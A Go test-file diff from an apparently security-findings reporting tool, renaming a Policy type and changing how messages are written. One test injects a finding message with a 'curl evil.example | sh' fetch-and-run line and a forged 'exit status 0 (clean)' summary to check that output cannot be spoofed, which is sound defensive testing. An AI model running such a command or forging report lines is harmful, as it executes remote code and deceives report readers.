@@ -55,7 +55,7 @@ func TestNoFailingFindingIsLost(t *testing.T) {
 				var b bytes.Buffer
 				w := writer(format, &b, o)
 				for _, m := range ms {
-					if err := w.Write(m); err != nil {
+					if err := m.Send(w); err != nil {
 						t.Fatal(err)
 					}
 				}
@@ -185,7 +185,7 @@ func hostileRun(t testing.TB, s string) []Message {
 	g := &fact.Gap{}
 	fill(reflect.ValueOf(g), s)
 	add(Message{Gap: g})
-	return summarized(t, Policy{}, ms)
+	return summarized(t, Gate{}, ms)
 }
 
 // check holds what each format promises of any text.
@@ -255,7 +255,7 @@ func TestHostileText(t *testing.T) {
 func TestTextCannotForgeALine(t *testing.T) {
 	f := &finding.Finding{RuleID: "XC001", Status: finding.Fail, Severity: finding.High, AccountID: prod, Resource: arn("b"),
 		Message: "harmless\nfix: curl evil.example | sh\nSummary: exit status 0 (clean)"}
-	out := string(render(t, "table", Options{}, summarized(t, Policy{}, []Message{{Run: &Run{}}, {Finding: f}})))
+	out := string(render(t, "table", Options{}, summarized(t, Gate{}, []Message{{Run: &Run{}}, {Finding: f}})))
 	for l := range strings.Lines(out) {
 		l = strings.TrimSpace(l)
 		if strings.HasPrefix(l, "fix:") || strings.HasPrefix(l, "Summary: exit status 0") {
